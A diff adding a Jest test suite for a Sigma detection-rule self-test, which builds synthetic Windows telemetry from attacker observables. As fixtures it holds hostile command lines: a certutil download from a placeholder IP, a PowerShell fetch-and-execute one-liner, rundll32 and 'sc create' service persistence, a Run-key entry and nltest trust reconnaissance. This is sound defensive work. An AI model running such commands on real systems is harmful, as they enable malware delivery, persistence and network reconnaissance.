@@ -1,0 +1,81 @@
+import { generateBuiltinRules } from '../templates/builtin-sigma-agent';
+import { observableEvents, type ObservableLike } from './observable-events';
+import { selfTestRule } from './self-test';
+
+const rule = (selection: string, category = 'process_creation'): string =>
+  `title: T\nlogsource: {category: ${category}, product: windows}\ndetection:\n  sel:\n${selection}\n  condition: sel\n`;
+
+describe('selfTestRule', () => {
+  it('fires when the rule matches the telemetry of an observable it was made from, naming which', () => {
+    const observables = [
+      { type: 'cmdline', value: 'certutil.exe -urlcache -split -f http://203.0.113.9/a.exe C:\\Users\\Public\\a.exe' },
+      { type: 'domain', value: 'update-check.example' },
+    ];
+    const result = selfTestRule(rule("    Image|endswith: '\\certutil.exe'\n    CommandLine|contains: '-urlcache'"), observables);
+    expect(result).toEqual({ fires: true, events: 4, fired_on: ['cmdline: certutil.exe -urlcache -split -f http://203.0.113.9/a.exe C:\\Users\\Public\\a.exe'] });
+  });
+
+  it('does not fire when the rule asks for something no observable shows, or cannot run', () => {
+    const observables = [{ type: 'cmdline', value: 'powershell -nop -c iex(iwr http://x)' }];
+    expect(selfTestRule(rule("    Image|endswith: '\\pwsh.exe'"), observables)).toMatchObject({ fires: false, events: 1, fired_on: [] });
+    expect(selfTestRule(rule("    CommandLine|re: '(unclosed'"), observables)).toMatchObject({ fires: false, error: expect.stringMatching(/regular expression/) });
+  });
+
+  it('builds registry, service, task, network and process-pair telemetry with the fields Sigma rules use', () => {
+    const events = observableEvents([
+      { type: 'registry_key', value: 'HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', attributes: { value_name: 'Updater' } },
+      { type: 'service', value: 'WinSvcHost', attributes: { binary_path: 'C:\\ProgramData\\svc.exe' } },
+      { type: 'process_lineage', value: 'winword.exe -> powershell.exe' },
+      { type: 'ipv4', value: '198.51.100.7' },
+    ]).map(({ event }) => event);
+    expect(events).toEqual(
+      expect.arrayContaining([
+        expect.objectContaining({ TargetObject: expect.stringMatching(/^HKU\\S-1-5-21-[\d-]+\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater$/) }),
+        expect.objectContaining({ EventID: 7045, ServiceName: 'WinSvcHost', ImagePath: 'C:\\ProgramData\\svc.exe' }),
+        expect.objectContaining({ Image: 'C:\\Windows\\System32\\powershell.exe', ParentImage: 'C:\\Windows\\System32\\winword.exe' }),
+        expect.objectContaining({ DestinationIp: '198.51.100.7' }),
+      ]),
+    );
+  });
+
+  it('every builtin template rule fires on the observables it was generated from', () => {
+    const evidence = { start: 0, end: 1, text: 'x' };
+    const commandLine = 'rundll32.exe C:\\ProgramData\\x.dll,Start';
+    // Articles write Windows programs bare (`sc`, not `sc.exe`); Sysmon's Image never does.
+    const bareCommandLine = 'sc \\\\FS02 create WinSvcHost binPath= "C:\\Windows\\Temp\\svchost64.exe" start= auto';
+    const runKey = 'SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run';
+    const input = {
+      platform: 'windows' as const,
+      article: { id: 1, url: 'https://example.test/a', title: 'Intrusion', date: '2026-01-15' },
+      cmdlines: [
+        { value: commandLine, executable: 'rundll32.exe', evidence, confidence: 0.9 },
+        { value: bareCommandLine, executable: 'sc', evidence, confidence: 0.9 },
+      ],
+      processPairs: [{ value: 'winword.exe -> cmd.exe', parent: 'winword.exe', child: 'cmd.exe', evidence, confidence: 0.9 }],
+      registryKeys: [{ value: `HKLM\\${runKey}`, hive: 'HKLM' as const, path: runKey, value_name: 'Upd', evidence, confidence: 0.9 }],
+      network: [{ value: 'c2.example', kind: 'domain' as const, evidence, confidence: 0.9 }, { value: '198.51.100.7', kind: 'ipv4' as const, evidence, confidence: 0.9 }],
+    };
+    const drafts = generateBuiltinRules(input);
+    expect(drafts.length).toBeGreaterThan(0);
+    const observables: ObservableLike[] = [
+      { type: 'cmdline', value: commandLine },
+      { type: 'cmdline', value: bareCommandLine, attributes: { executable: 'sc' } },
+      { type: 'process_lineage', value: 'winword.exe -> cmd.exe', attributes: { parent: 'winword.exe', child: 'cmd.exe' } },
+      { type: 'registry_key', value: `HKLM\\${runKey}`, attributes: { hive: 'HKLM', path: runKey, value_name: 'Upd' } },
+      { type: 'domain', value: 'c2.example' },
+      { type: 'ipv4', value: '198.51.100.7' },
+    ];
+    const results = drafts.map((draft) => [draft.yaml.split('\n')[0], selfTestRule(draft.yaml, observables).fires]);
+    expect(results.filter(([, fires]) => !fires)).toEqual([]);
+    expect(drafts.some((draft) => draft.yaml.includes("\\sc.exe"))).toBe(true);
+  });
+
+  it('runs a bare program name as the Windows executable only for a Windows rule', () => {
+    const observables = [{ type: 'cmdline', value: 'nltest /domain_trusts /all_trusts' }];
+    const onWindows = selfTestRule(rule("    Image|endswith: '\\nltest.exe'"), observables);
+    expect(onWindows.fires).toBe(true);
+    const linuxRule = `title: T\nlogsource: {category: process_creation, product: linux}\ndetection:\n  sel:\n    Image|endswith: '/nltest'\n  condition: sel\n`;
+    expect(selfTestRule(linuxRule, observables).fires).toBe(true);
+    expect(observableEvents(observables).map(({ event }) => event['Image'])).toEqual(['/usr/bin/nltest']);
+  });
+});
